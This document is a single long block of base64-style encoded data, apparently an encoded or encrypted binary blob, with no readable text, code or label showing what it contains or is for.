fh4FcdQki2A5+JQC4FcTwjvy9eoJtBlAVdyhzfVN4BrKCMFKr29QGf4zA04TA/ZDa2z2/OSTWuOxEoE4Et94VGqV6nnuTCCGvj8zuA02OsDFYWgGMCVMKXGKM0nU//4Yj54g9Qb/ofnH0NR1jhwRuanosOC1HkDULydH5rloZc/f2eKap9jZBvmgE+nhz/UZB5RIy5fG4D4uZkjH9TvAdvvV101KI3jPXLO5jjxJ0ACYKXm1dr8+wFJ93Vg1c3FErDyqUoV4gz9Klgk/ko81QbBi4riMTK3B/hEfQj8igi9yROH+CWQP4pGFL04nQZt379hhG/+m/PVh1kMLXzHHxLOvjI9sS0zXXpjOHgfHZOYHKnrG4uso4Aj07LqdS457zMg5Apc08lmvCQzCB2jQJLsqoE66phQ/YwDknnyMaIiGceuLKNeNTBgla83D2Vm+QsX1YJRxlrNJgMyEnNCEtLn06RKMloBM+6adcouEOYO4Ybz1HUnHHydMQ6kDGUzwZJilc8RNXTKUB2bH9knTF09kAMJ3rIdUIJa/FxZ2D9upy3MOXIGIAJ+uR6MRP6/ncVSM4IeAXgnjfONKgSpjYTsEaEZvmKCzRzaSXxUWcJ7EOS4dFjYiEVpVG5yzgoh0ha+K5wdKEyS7P1Xk0Pqjw3L+EDD32AWakk/rHiboD67ThwjYR8bF/ChMnSaG7jlRjJyWX5iZVK5SXd8okLE/Iod117/1A5i0v+CrLpERJ78lPk7/eMQdAWZayCyW2J1TudQ4+cW/9A85WgExk+EdYKeIjrV687LjQ1d8zBxgDJWnC+UlInW0F2qZeGoOJ+dDmlDfC2gUeE5p5nhikkYxijb8EVRxRoGiiI82lwwEOPn02HAkQ9jXgY5l9sICV+QPPjnwHXqLXhDXoPFnvb/9coo/trB5dDTx18A/yIifAxRXqFwnz3jqYo7wHHnQDhnTFcf28RMBAGfvpoGMROsRigXzPpDP25AQdsYO0Q/5pDSHmz+DAQFgZlXmk7OAi7g/IvLGLFLPB4DEXyxGBzHJrr3KCaJHI+Jm1fwNDsGtg5io8RUvAiNBP6jaN/S9Pp7qGJ+Iwv5xS+PQZry6CgKvy7cgnEKrKczZE3Yw/IEzmy86vLOxa5uHEkcFu7Bd+Nq5rP2jvYgCDr3c1kFML7IVtO6JAIuZEdj6hXEyWwwUEcDHCeYDiDtsbaYGOciOTtNPICvTPC+MIJI3x2PxrlusC8jAgD9T31laa/E0OBwjTR/gAzJyfOwBOlYpY/AXhxoq1E59zSAZzfHOCOiEsaePjpQf0X9wLRQ2Al8mDOAdN1GQx3dIE3Ij008szEZqx7sYws37R/ccWp+JvHE8xueWmHO8c0TEoOhZPR0Vw/ixeW58j5pYc6DwXk/SDHp+GNJ59asHE4Sh1F8fGYCJfuPBonyqrqgjPEvkbkANqf2wGuPPdjIjdx9bpXhERDheqyORXicE6YpG0B9R0QAgPXJ74qse1WBEpVwuXI2izoVFEk2Bo2v5roHFiEvZ62KsM6jyYyUa2HY++ErE+5/AvLU8htPso08YlQNHjODDWY+68ch82Ub8TVwjRrzico0Rn1tkVx7rItkMCIAQwYiJJFfmZrdGuaruA9FDSlxFxAJkdtzjsk3QpwU+KI9/tEQxEOQypn0nVO4hTL2b8XVwyxF38gVxToNIIf5GRBrsxHWEsmE5S+bYt1QWi1g4sT/QdJ8HG18XEaWCcaZoRnMhBpn4ULTaH31ZOitgHhDwGmhWx/vxV2IChsD841y1ZIC/IIyKm1MCa87JPAxCS90gFJ+KV5WYH1QemFLzDPTGHhguijjP/xNRz4cEyQJ/7as4/5oL0Tww/QlGdbB5NQXHe+SfLFI0QhYd6WsOCs1ymtvnAC1APgZowL3NqSHCiU+OGyMycAOZoS0hWlEjRi5/8oV8IB1n4gfz13A/tCdrc/gGq2WCpkj4/KD2I8f7CQdA2B8fQ9WYj4WnwANqRHJMMicKR1YRUZmU3ju9KhJcIf9SZw84tKE+gTmYh8aa4OYfJfXoC1zuyIuSscw4d7um/Ta9XaR6N9s/NuBFBikccTV16g8iwCOqWGHxOEvBIjZv3MyBIViQjr+P5xcfnv4vLPjl/fCp/auy+UNQsUFU/kselL0/3p/NTJrVHTBEVMUHJelHOD8X9Fi9C/KZhL4GOD21jb4myHID82yR8Az8VoBwUrt9kuvkZOaV+Le30IuTMK4aDPdH9pHd/mQUxufJDyHXa85P6dy6ASafPw29Z4VNIQ1RPDEHY2TLTFZ8Z/CmOpeGS3rpFUtFUN+DhusxMyBsAj6Ij59PVQqx9boZ609bR20DByhqgZKZbNB94HEkXjevXG0MRqreZDDms7vq/fb2jx4Esblw7kX4sVI0mY2frbWVZPlDTnpKXfUvVG41Nwe2H4eafwVG8cq4D4p92M/tDGCGGLqlUgCRP/bnoGnKExCXYcg84Rz2EJXEwiCi3i2E3j/hinNCAdICOIvBWcpqReT5E8B8PO2lnDYGkx4fSRhPAiHURKRQ6bj8QLN9cVgVzAcHsF9DK5RjH2iIi7mLSiTjtv/57AcWrwbP0MjO4icYPwDwUIwHw3FJQVo4Xx3Cd71+DgyhNCwlDyF+l3DXpTX50cvHEcHE41QHk/Hc/IO3kcFG8Hz0xGQYqErB8S9IAaGIgkvLjIj6JGIQfSB/w4RG/CcZFqdz5hxLkUsIjLcUMc4HcIR93JJGyJTseGxfosbrhcOi56FI5kipSj1RP0keUJlV5pXRSY4U7iIJ+u42HTaXaocAQacQAnRyYNZB0Fz3JiOjOP4FQIMRiUJzeThAAIeYj7jdn4Br4hAAChzacScWfOS1ofjcAtMA5oDeAJSHCVg54w5c9dicpN+IeIJP4Oqi3nhl5iLoDTTXFLp2Nkx9pGdhCqshALMR9aBcTCDu4bh5Q1+2Pz1eg/FP8WrbPmc7/RLkBhihIEax1ejIMaZKMhNOHYtgQNPJuR53hNXjuBYlEet6KJmAOr8HD+YCXEMeHJfunhPrAwemHplW9jCtp5hvGSM0PniZcaNIKHr9uZq3T+UmeriDWUdX4+HSVqi2Wa7AGoD/w/PiHuCoG6tYxCw+wT0rktLfb+kB9kK09B7UZ6rtILE6ZFtDVRYiMMSFQ9wojGk9xolSD1pgCC37A/Nf/g4HC5xkxah7junDkT6/XcwYFoWz29cZIBSVfBaO99bLf2HyP5fGfI5ERPPZhbIWUE3tikb/F58PDvBunUmu1+UQPfWR9XceHgpcQCiUJ/K7/0DFUJ5giGRMAA+xFPDqHYFYZJQ5QKDOXKjr3LOOnMlBZO0HlYJ2nAlCE0OCtHw5rHNbj+fTpwJxIODWsy5EDvStomU8nUdwfaMnu9uPBD5rsZ8FvSTEcYjOnfrrYlbTpUN/1HQzLk2Q3ikghu+Ric6xgV7xWLyfOIR0HKgm/UHu/AGEk76WDSxFckR8lHnpI6vq0NY/sotdsQMhXNT6QzvmPI96Uorq9AvAfBjk9cwkM2Db+CEyLh4NO/EHQgE0BMQszPxX7MqJQQISUvHz9HM5fx6PxYb/bBszc5e/1c4/m7kXzpIwAkNuXBwAlIPkym4wc5MgCu8UTgdejmN67oU7wWDxLk+ixr+Lb78eHhzezxNi8St9HypaBqRBBi8coTxKanAFQABByOU9tyu/z+MUxuIJhRQdGFtDrHyMe2i+wd6ksadM7AXNOxHR8fMMotaOIOe8aVg7wLU+0Af4GpxNgoTrQMR9798RmfwnGJ3UTH25hhIzIkxlxRFJC4/DdztW1mOIFqGJ5cyAI52fkMg51yL0JkUBHMhQRjgm5yJ5FiIRgCR8qE6K7kQNkARmI6qWXj4eoqSrOgciG1UkPLldgHkDMYpczjix14yPZHoCVOEewnhg3EHBMbyaqCwK4L0sfCh4KB1r6BuFP2KjJMtqW7g/u0RzI6YYz428uj8LoN/m/4JMd4YOKiFnHteQB4/PGmlVBUA2L9b8oJZCwkIjssuJqkh3+Hr/FjKiaFDoFYAkJcAit7HsB4Vxsv03oUGGc/jAvkGPsJ6DwRw7S8wc8WIvX9AcwyouHDQ0V21qjWwETgTIMTH+gJnDrIBlHJVzLo/QcHmKyAJOjwxIOogE8DXu0jCnq8mHBA4YKeCa2BGzjS8Dm/MG8MDt5zmNnfc5K0AQ/uRRpwKVFFiBIPR0dp7iOEAGvcZSC3OQPri+Om5AH6q0giDP518N0CAIBeP8518MDeTzySajPgOnYMIZwA1OCox2ZrYg8QNkZVZgccyccT9gYopzxkpBUHUMUWHYkJ5GqToLEVK1OVlAQTx38hMnYm3wHGcz3RljX9dvRukDh0S3P/glgokbNYZ/P+Wr7mzJ6mPIqLTGOCoRepHqh/pYqwPC4S/KLTCs/EWe/CRpqX4VAPHbLQBFokuJoOCpTl4Yqf/zeY5pWdXKFBJ78ybrtaTSGUPGifk8hku4dR1WA+HLkDVhMqrZPE1Z6A80m6Jb7HpWRtmIebtCUAQG7DQa9BUqVJa/hcJaudhOTqth1T96UX8cDZ0bNSuq6AnNj/sdXgVid1SCR8UxwI8GYDFLe0aPb3DGgMEXWAI/BEYqvicG6iVi1jGlckNfBUZTr1ytVD7+5+U/xxp8QqNo9mVHgnnHxVlImLEE3wBqDfzsERKJG8xe3L2+zhMuAty9/uVxbLe+vhF3z3C3LYUq+VDw39nD8upY1JdvCGQCeQyUd+sD9HhyH40643C+HWbL0oqQT/hdmE6UwommA1XTvfNChfRAnseY7+efOKwQAsenW+9kzDGogW6UvmLN/q87ApFf90+/f+eMDrYRx4cnizoTiwAeo/pEWm4nqfWxnBTzOx/qtVPeYMDqnLHfderRr3hZ/bODpCsMZSHq5FF5hBNQx6WAyQk5qRMNDlZUqKzFCJ1GeBUVtDHtret1D4VP0pp0j0he6yROLWYwxEtHt2DI83TOicujp4E4kwO9pnnMRCl+zYhoPEkfLfHHVBf36RfR+TPOrmHE98ZXcUrfAMN31ZMHtYLj0KORAzhldvjEZih0+p+UrKcW6pUuNcW1EoVuxonPDO2SNP+WI6doBwkI4kqOdVnBXCYuxIhDhC4GD/3gH34lCozGjVhxVWY8jKclnCCmiGdU3ZfGhGyHEH2p8PkMwzkfnoD3HEGsAOA5US7iUTg9iSRx5ZqC05H8LSBW6Zb50XTWWjPfGG8WRWpiQr6dyOI0WsxYPhT1noCIF9aPKIpgGTHswr0DC6UGkiMcDBLayExEs2YgBycH8pHVpDxGagBLLpbX5UI9Od+PWegES6aD/ff5MDwZX+MH3TOLhHCOJ7sDBVeBmiuuIXzkE2DhuRaeGT1As6AMbmdeMtgF3FYV+vCQNhQqIO5dSXrExOPWFZaT5nPOIvIBHIsdLC0PjES2dy6BMiBRyFk9kCw8wOaEx8BUfPJSMJ6FaZr4gSIP/nsgDAYb5bqBzCuFnvjjEc4aV5k9oeNMrcTzYENik8fAvyBQdbfmuxq1lAb/mSyr7c/wiP063xGzBJdiwjh6/818BUA4ZQon0ccvfpkRzpUhPgWDeFboP38ZdEPGL7jnw+ExBlT4A635Uw2KfOwEcPNNfg4GblDYx2Xj8cyykmAtITmw8zM3BzKGoBTn/oMFBvV9XE7j3QQiwWDGiFRcI7bGN24yyuAcBAc56DhncUKpFGPwXTl0Vh2AY8GK/r/54qdiK/zhM/Qn+RjxUwFsjAtzogBlVSomuP4DcGoQEygyx/zG6AQajyif1LjJ4/HMlCrXc4cRVeykQ+J1nBXk5+3N+Phz6pH/ik4Dc9poJ5+TKYm9FmIMHOw8Rwd4j7l2PjBDpLNcznq6oOxmykVkBTY/VtcDRaEshoLF8/0Te0PrfWlJDyszCutWipAhPQCOx4j8hDCRY1s8UWPHUaZnVugJAkA5E19ngiayeN0YZ0fIuGtxS+XyW3cxOAfmonYoj8L7m5HHI7sZSc0f6oliYPtqkuPeJKCf7Y0HT+Rx8xFPBXVz2Lj3d5dU6E6EIpgWRT7CXP6PVpIIKBZu/U7UYnWzAQxFOiBgvwKsGneecYoPehQlfoLwxAL4hXdiA0hl40+ewACJzp0NA++YP/yz+MA8HmfG89dqNgAggkmBEI5XhiGWYvqMVVhuDFTQblHUzznPz4AwJEGpZ5x8xN+Rc/STh8iJpRrDloassFEznyNGbM/e/6fQwxOtsJ6rwUjgYYwlocuhiwey5M1VmIQwgFNynJBSt4RPcgw9GcHzzI07doIzir+0OGjhTBIv/h0HQyC5Tw+QYqekA0UCE8cpbR9430crCNCDJJqxqHu9omcLcm+pLHsdeAWhfPB1AVXLKbr1gQJ16MjvRy/if0vmVzwMsL8UlaI5Mmn2ojyfo2EMgjgGZUpOw893SisSJBiXrSTTeeLg/6yZs6PLs+HEioyRO5z1TSkW+CvCqBT0b9aVhS1rBe+7fCU2dbuBgsH5yeD3QWHSiINl/vqplz6mCUs4Ehw+WTkcIMtY//uIVii6FERx84hCBYAzffubyloJUtvMTg8x+yl9AbEcE+MtHKSoD/uL2KsiK/UJ5cg6q+8O+4zPDA4M8gceylB31RiPYlrG4MyegY09qLSceu3Ck7XjyfzI8EnqedZhLyotUaNq8O4LxGjmhQF4SwszG19TMCNqzdigJib2zrj4tdT/pjCsLdVSIcq1xSPyFwoPv/+AMff/bh0kIgxoHkKnxhFjKJBZRQNRY30+tCqn4zOZ5Ee+Zw7PY6IR100B7Nf4ESz9EsnBDbAsrLVmQJCdLLH+PmDdCQ0FjTGXFgZ/uc/ohK5VL0rZ1Bmo7g3em2/xngxiDIfgoOLCpyInk4C8O9aDtePcSs3lNc+Rd1WJR2Q+9Lw2T+iH+qXCM73SGpESTkwwsDkVfzgpjhYVYAIZ72dP5UX8Kv+ug1rE0ON8MhuAhFkq7fkmCT1OLz7iVGqkY5FIIk8yaoyvQv1QCLQOXnjzUoP7J07kfRb3jRzHne4TCys2TWYYoBYj6Au/UTR4hvA7+lnBZSEnIAWPzh4LFYqGjj9Djf9eNPw6IMo/A7T6DDAWWoy5ytDhe1UqLnFG/vm5Y7pzVLE4f6aC7xmYRJYr2L+0zGk++0hNkiEKoGUBxBlHXIjKqQTW2eCb55EIPboE9TylI/HJbo/wP0TjR5zQsDS7oHxnqx5xpCSMTVX2NV5UfXoufLxAMAcIcAn2/4qMQHbqavMREixvZ64UZuRCADa8yMlzuSFD60TlqT/lDPxbBj5USgWnmKWB4Pq+BvKe46tjtPHxH+N+B5Y1Rlm1/qt5HKnM68lG2HfsxW28Id3DEVhzfpzC02rkmzqJAeZ9DkAX4Ft1DIHw2GJOC6sYlxI/68zPdKVPGlKIVEQkYpDPwFLRYBX788Zl/+I0Eep8Q3rUqXOD5WD8+IVTK+9AgyusAdnYF4Ixik+NYAC1Ls6jJQc6m8qAsSY5Oiaqiji1g1B+xO8T5onzBpQRKkN5DWACy6zEGIls5Be0MmeYp2rfserQA8/09/1q0IkBcnGFkYqbb5Ykni0/zleQPRUmWycJFTYCyVS4oWHwwjEyjoRQhYVuSMnrOgK9M8BYLzyfX06taYGMNilACORIiynOBiC5cha6C/EIVASllwwgqWM3vc/BVL2pNcHVuMKskvU6x4Nm/A4wn2oqqBxER1o/xuMx/aqjtBjAFj3XFLvcQrk7J9ER4y5hLD4Lgk9L5CTh6gj8NAyoHq1T9nNJN9YIZt2JsdcYwSfG6NrnPlCPx69sXgisABrDQALBCDwvwkHur/LrHYgmItO93lrrAnNhIF83j8g56h4i5ojrA6H/VmFhLCg0fNTPmI7kP7Oz9QCVZ/95/2uBKtTbJPEcCW2kshlQHToxFE2IC60x+cJFAevHOttkG9gZ1FocQn48h2ttX7jflTJIxDxi8N0P9uYU8JgqWZLFDZxHcZzwOGpkbpMUxx7kUqn6I4xbW0Auee5Bi5xn3p89/riFKABkBsFAG/xklNWZH5RzvWWARzimGfioX2ZpPeJ4xJ+fBAhiiOkC4wzk1pIijgnVFoEA+MTYUDkmAj69/ABeCk1Y3VVA2PLGkSJisdXdGwX1vghs3UItuTRHdYVb18kX37ynACbMBAo/Vno6yUNWFC/+DEDmOEq++fiv8nxc3FJ/Q9OP/chASGXiuqyntByNOp4UY82MteY7o7/QBqNEv7/pzw4k3uuSZz31uue//Xst9WezT4HGyP05BJv1lz+mg/UR4BDepJ8zvlA4hRpLF3QGvKrbcw66PQKhkZh1HJ1Nv99SZffwhbRjxeOF5vN5hDLX86DtKByFEYpSjoEAm/K5L8ZarHqIzdTgOAaaKTSwfYkoXgE0gOWRylIC+CN5nn7gU2aRiANCsuZf8hYZk4ihGd69btTEJGLXgDQIwDOGxvPHKX4UuH976ByADv0ZcqOdDBUfbMgHyb2jRAvX9TvOeNeTt3bRm4Jo8ThR0q/B4Gfkfvfn+DfrCG9uGNEzQuHgddBXKuCtEe+J8NbGn/4SVsmqr+D5fSLut3DyrKGzFz4v52iKZf8GL51ej/Uzv0Ge/+eFfx9bQ+BiWFBmWZFoOtPb+NL67KOFj1NlhDmg+ucTdZOLUWyiSZbVQxEI1Ru2Gj+IiMM+pITuMbFjvsV5CurHZwbnn6ZRxg9mlH8ozOTM0K3XJxJn1c6jiBmvgwMgyNL5FB8FAtv4M3sgQgSwcizFH/qSEEhM6EYVhnGaFye+P7am7Burj3y1OkP/JI2iRgYaH0mOLFUOtE9i24KwsKTyY1/5dnLw2Bx5LaDJ1RSgMemUXtwHFBpiBuk7mOIBbNVqiy1uV04owhIQWB33MD+4ZVrkq+HUX8e6xRizcRIRDR2k+IwMFN4TL6SXMDYs3N4phVcyi3hc74OIRDQTsCy7Uz33yJRijAORd4BMlAUq8h+/YHI1puas7+AJfAC0bElkHE9h2MiCHwUES8QkgGscHDMPYY8oYeb+nHglHHwTK4+DwAyfS4blC4MlHGA4PvU6UtMaZxEExLkkKiUlDRoUJBVB5yeDUL2isc65OPmFsI9VnCJK9VH4m1QxoJldjGEPYMR9SQDoA6f8dGoxlp91pkz++F+RRpRP3ItvOSUqsYhQX+QN9zmSLAcx9Any1TZgUKQwyGtwVz3oC6Z0gJljY7DgYejsKCmnXUFQFUuMBxl53jH9lWGgFFVZ2yUT569BD8TAmvDL7mRM4Dv6n8IRgHMc4rNN5F+oc4wxxToKPK/ROLz83nmoGMbAZrKoA1hJfroI9Bj76UagarxS+o+tAh6HqN0c2NvcVyZ9vjHOnvSpIaALb+J6l9oPY/2YtwAPcWoyM00iHo/AIY21cCUPgOeAlqlmfCNyTBNB9/1/jkvkKzN3/+wBjUjAJk+roxPIIwz6WhW/bF3clgr8/gbi9hp3C3DIAUQITKAGnJ1TUBgR2EOgYHQRJ0QEAjCSaWyHyAxifT06H9gcJBTqC2y5BpQRidHzZwAKnfgxfuCj3vRQRo6UE+/+CC6TF2JMCSrMHNOLWPXzKsMe+ZdtGIsAgTBNPhbX/yAgfPeGQkmzH+M1FRgTjo/p8dvFXJns2OyF6xLHXtNgFcipCs8sOPwD8YEvOBS5moLfKoTrMZVv0qXnmlhXAKHaQg3g28koA5+D79Ewf/wEkRoM1YSQdB85uSWPDyRh+QTG5N84FNAj+ozIaawHwyOEwXnG1ua+InmYijo7GeInr6C8HJKxgMs2NIZBFfzYrDpiE2aNheZp4JTIKm1w4oOWxE+D31fidxoTTaCFUZG9Gq8/4zcezroQ15UVrzyXlJrKCYQnqSOIbNnWNUxAEI35j9Yqx6nOc7wz8LSs0fh94pcTIjrxNKjH8NuIDzXWb+X+5mZkgJAPtVJnN9ce/HXDKN44XviVo249S4KD6xvXE0hQ1xi6iydDxLjSTn2fHjs7FCL+rBoWKl4PJyGhI1ctHuQ1AQDEtJwPMXa0AD8CDjMA7K+opIfcxf/kxeaGJSWwfvxDPDO+HFEFMrXHj1IoUahjpmdAteaIqnuLAkj6XzM4+3gzR3xFMR6mHKqEYyNTKPASWoOz8XMr3y9M8P7XnCX8F/HJYQgU4okfWIBDf9zs/v7/yIfZpcc557U6a8AV4STieIWlOWannXvP5JsXSKaO9Zh3L3ROhLvYT3Om9OD19mXncSeEOQdw/FkkzaBvbEN1XSwB3HrSBfzuQ5jeAJ1Ag9jUDmNRNzcUeIPHvwMg6ug0Ag61xLBmbtI44cIUuUXwX9EbICT2vRP0kwhQgw7tukibp7UAYDYENIC6Xs4iupf6SImEOTP+VIS40EKAHSEVh07mFKiluNnPiftAGIDTx/DWoUdwUqub0+eBFahntzweRbkYVTRfxJzR+fH1eFSOEKYOJ3R+GYCIKrAef20lbmCQK32EMy+/mbHoLX7wKNXN/AYRI6DlUUM8zMHSh3DV3FcM1PggLqyhYwFNNrcRHQSygrEOBPiENtFO1xrRVHLCQXWmWGoHFzOQBN/+pEdUolovPURAmMo1P6nXjKAwyTuE9DGyjww3R77B+vnRx0xj1UyPT1StHCtYLlp3+4vn/YvHEbxiifPR2KJ4HSC+MkxdMQeyMs5gkomlE14re3AKkkDcMQUk+Ph5gBXwk8QViamvY497giNP9/o0HuPg5mOqEYsnGlHluEOOaAZrcv78jyL8SU+CF7IhXFIYpwoE52qMSJWJdAo5h8tOHnn9SHx+hufz30sANNjIMPYghvasLwL+HTUrc5jgOMRFLWycpkgmjigX8GcPcZAL90DcA7ESu6x4QCCquSrJM0ERPA4xdGE1iA8jra6ByHX/ExXxAVoCKswnVb2LLkE6CiByD9oWFi9qpKV3g696Iml2+DJD/1zQFJ1sYqPKJYLjoKVLPLvNduSHTAGf1uwv4nQuv9t8KbDszX+WXhuPU4SgJtj7qLgVdHQ8MqkG859PqWsq4/7+eHr0440449b8wAxf/scliuVbKfRHIkAJlvBAe3sM4P8gfnnuZwF5w2fcuI45R+NLCfwv/OLaQSHONAYoS7wB0IrhkQoZptpAgt+DrtEaHX1/XcNHtUBm+uf8Vw0gnpvhxw0Bbeb10hwOvpdWb03sYXsxAk0gJf5wksB5OMXY0torQXCSOD70/FixTlXijQ5oj6quXHjx9J8LFtRjI/RymTGRe67UuWTqd91jIKY51M24OKkbwRcbhw4prJhCnNh0S1iBg8eJaumMos54fowI4EfejUx9aH57IiNwPoOtwXA4AtQJJefR+vNnBh6P7LEnBjCYY1hrpGp+aUKIzTfHhAB9NjCKIVAa9NcZ2yNNLihtPlCNyaqJClUpYTTMYKWP0kWfjwyAjcxzE+vNOlQYi0CBRy5OMWvHHo5yhbjn8wuHhsDSQl1ZgwFxjiK7Zw6mCmMFY2k7GQg+EWSeLQI5gbK5uE7g2+R4GNhCsu3Y7XdvLTqLAyIBKtiYxSV34iwFQaMIdEOEXlG9eYuOFUxbfQpmnfjXDNhQMob+3VZk7mImz4OVGYydi9EPPUYigPm5F1FIjnBNi8lU0b5wzSPoRD3PKolR1zR+MlFO+EFaVRstVbemKCnawGqjuZ5UWC6qvXZiQfFwpMOf9AOxg4dx55zo9VBDcZ17jA0En0mGyuolVEu0jmlVBKo5f0RRtZ0Hx/jGTyMhGEcSxcA5Q/574zUTBzgIjXgLz4JC+hPKGxPeuAmEoY9xIxA4g14UbJxNOPdgsKexOtbMBML7qHUE5umksaqode4kNKw9opz+Jwg3QmSRI+bRJ6yZpqBY73F5UCysCKUrCH6S0M1v7EOpOApJnFgOYD18NU98rhDmCnoxIiPKwfmMGkfFFp55mzBWTpZFzed+2BCHRqbjl+aR1zAJRtRtEDFGdDv2/fknxC5UALEYYGbcpCIh9u0uOB0ZwugxcLg/oMeGyB+Tcc2VCMU8GoBRDZzZWfz1QZuZY4dJO9HyGqyfArJOnVmsW/tJ3UUGY0QSQEDqimJ1dgEY6qrzQcQY2Elvfs01+TriT6Rto+tbAc7SC7rfRBndjBmoc2CoCr8GcZgCgQuYKAJlXMoYoO4QuLZOyIQ7m/IQvdG7+sA2mV3BjPGVUT2QwB7zRMw98iB8/Rg4LRqDXeXEHoMDU3NzfjwazEifc6bLhceIX1khqPD6QJ4Zr1y2AqWNFO5v7IGPf5EDPMSoLoOoca7XIybQsMQCKfKP0QNl5Z+NV+ocIxWJOiofBpTp9VOptV6RBTTxwJbAwBMVockffRCaoVDvzESw4mG0rH2RICabR3DD0n9tbOG+MsAhEfxXRESEwDIkRv3mjrnzYj786TMmMg+rOC9GJiYSA5ji+oNSJCbtMGbsHkHwgzLPfTD396g/P51rCENXGADm3gbnI2buHEsz81bcbToXgDMj7h7rsx4B55GQLiDNAedo6iRXbJbyC+pi8JyvQWwThRGfDHCmAY0YNz5uwPZrfE7XnuCfnoXUqQzTzbODmQgE/h4dDMYIrg0c+SrwHxkQHz+ej3fCsD5fqw+s+mdBPAEnPyISQSuofrAIrzKXnNyJwKmQjz5BYDZTF+yYNa62uAF1SprXX3O8AvDZjbDxHvex+6S8yA+sZ0aY6aWX45TBtp1zXKn6RzKyuQLi0IhhzweeIoXA0fuVALl6cX1YHh356D/EqgifuQW1bIwf0MoUDxE1c784FZqiD8yPjjwMrPxz5By6BopZkiZHfAIBDU1FpNhP9GQI8WtuaXzGGIrQ0nOcfiFJJ5uIn5biJL2vFjeLBCHJB8NJAvnXr4m7d+Jz1EBAjyRaYzMZHwvu/ljITOwMcrEktqiElUA/gcetb4Agx8S/w4wW47vmxFjpXZYAw4DsejTZ+Nw2AU9MzELRzZbO6eZzq+/LogiK0qy5kJIGpVQIHLaCTLKhBrc/aFfEjzWRazJHnAR1Y4rxhF6PeexbiAPLc75ksheE0C+B8ZURC2eNxU6HHDrzK48aVzxpVr85GKA5/fQTcOb1tgYNBChVyQwwkFif+TGxuashKFEapAnykg8+zml/AhdzRfkHuKB7zclJYeAfkBEwErQE2sUQqPLjBzoH8t1w/d3lU7goSWTMhnTYIcsDc4COSXGtywMA6QRceb4RxI7nt/geGsGEwpdd7OZKkyeaj0TVKCFzeKWoAhGvhhWRZTKnjD9CFm9Q8tMaSeWP+dnk6KRWufbPECaHfpeZ0r3qUUEc6hqV1QMfPmIBxaeCLjUwZ/BHUiEU2M+jODm6yuCZ2XV8cEDt/+6scOM8orHCYGFtaeoVpSpdxaFvZWQrUCRwHx/VqEMb0nHefSlw0nBXgNqzOjn1VwCl9o6OHbFvndmyur7oezkIZjB9ueoYZ6tyonVNoQ43B1gZ88SeiHt4EIdbaswaY9b9D855Coa+74j3IHzgqMCa98+hM4bgIhSmDuR54hSKzxw7kp8/f6OYAM/VGH3MatX/Kgyz8Pn40nFMFwujFJ4RUHE9jxkTC2TNqDRbdXytpf5mw3M4R+9AFMDHK00Ky+ceFJq5CjQajhM9tY/xTVy3pjH+jBQ1/RW7JddDCiwjm7nqwvqTLebjOF7tRS56saBdA4lrCp5I7Jk1hz2XUiPyGmY6Jc2TfWrAs/9DbXE/Q/IB1WjSNYgxhhZ2YCmha+UF4tLeujEYgfXgQ7Q/yXmJ3FkeBkhgnMajIhhlTfLHX0AgmVnx4J+3CaRfwr8mQDv7oMnBkddN2sE3nhQTe/6jQ+L9GUyPCQyQuIQoZDGY4pVOfsnV/U8Qwve+hyK507JP7sIeIYpicWCWhweF45Q/TGV5iFxUHjoCDnEl8Ik3IIYcESvGb2eMh5HJgW6wWw2IFUV/BQvPk1RBHBqknmKoggTm1FMKLTCiM+0Ya5QGJW4OjswoHsQbLuJPvO497jAfpbt4T7NWLGswFogdYwkx0qGgAamQmhFQrb2ENbunWWNgfSDDEV++OHvcaDGC/Li58PtLGHBj/iQG+SdPooQpYz4nVuE4UjhQTLR0s7ThkYnGGtdpV1z7M1E+tiEq1Vn9ge5+n0sMzdqZxOdBaBlowYGYFcyPhMg94sWne95dtxfWJnEEtuZ9gN0rP2mAgT8O/ot7JyfLgB94kgg/7q1H/MBovQCIBtraf9H44hAGpGQsa6i+CQh5HY3po3gJ4c0jHEMI/AWhpFj4zvi5zwgAwVot+QjUAkDi9C9z4PFwZObncz5cMVh839Uvj1GOtRvFxvX6UyqgP2uPC12X7p34MEzEIJIlxU+wFaQc+Dj+3M+CLgmFKp+mMPFMyroBh+QNninUmLHG0VNJggANDaI8ROHS7++6xLNXRQIoJQphWRIWiTwYJVRtC9foPZ7s+d0yxnq0VHtOPOks5LlG4+eDT774RU5/E1LGE0MY0vOAhS1hhBStIEorMvgoExEHRecFKnsHKaD1GYjIEy1Y4vgd8EKKMz9tgF54+hWMPQ7vCYp9fLLqvn5yw3CaoDMBFRm6xRBqBOa2N6e2hxBBTdwQV/dmJ5wk/k3sGFibQkwE2D98jGP1xTTTqwIRI/zLj1am/uThy8G6/wpKjm0Fhyuiz2nc4uSLuGZgQBNPlzLsmM4YPd8Dre6PwvoP9M+0EwkEeBNBY55UtAHoKoTbKmgk8707vcYF58cTwYlr5OOTPZqr9cQkgbl5Ekmh6RxfBInv7BqqAycdffrudeB/O1wQMjWjSkVOcfAXaee2w3GZWipAT6TQVK8BShFBZ/Zr1wRSuIkqMIY/98ej6hkckReI6ycfUdb70AlwAzBBVFMmAsdD+OxDq1twYdRu9uOzZxQimnGTxWfnjHS1H8dWxHxFwIpahI56/D+96hkDk7ymXSWWmJlYy3o8ltVqhQqCprEjgQU+dz7tT9YVa/TIW6TY896IH8fBAcAKUT/uIML/hoROFaDb/xzPmO33c8jXqhUphJtGTCDf//pFxQmdeuEHMhKEOKBUOgpLNjP8xyYj0DMp88b+hnS1U3YT0Jo6ZBwHzZsvcSKYThEUx0AtshiUfpC4OCOb9RLixcbJAP7y2umYu7BbT4JRQkuY2Y/iG2t21OnryZDGHCeFfNoDxi+cGK2ip35wEVbquScSmc4AYo8UlHm65NF3FwIvHK+wVw6ZYWWttMhLAYGI9/im+FsmQiKSPWBlaqTAU6ee/uwVz5pSMjFBAR85thZeMF5CvqLOAIKhIAdBfGtWxsFA0QGo1h2xUzgGRILUntRAh+p1sDKyE3lLAxkdjwLRx5LLBwEW6yj9VDaheXg+UbAHPtPrhcxgjfJ3wjwCAQK62aJOBNbiAMe4ye91MbJBIkkKiMgK1gR9ysz/2RqRy3AczbqHIKKpr/XWTYn4ayc/YSMUW8eWOhXhcnYZRWUUjz15LT+N6C6Y4JkE7z4Qt/9N67lg0QDXNKPyHgKlNWoDx8dF1ToR2OLxBfbaQ15PFyfoO6CbO4Uz7zcSYFEfRO0c5HScy6pgv0fQhtEQQOWQ1QZjrRrvQs6cAVp5xyeKs8TCxFxFnjNggU8iBJ37H7KC2UTcZOtTmgxKvEBlHpMIx5/nQf7YCzBGx8dBGjXO894JxmNzV4AZ9T+JZ0EPHj94M3GdX2AN0FkcTUWfehDOf4jhiZNG1cIIqsA5I43m+WpdT9/pzriPz9pfyIorAJ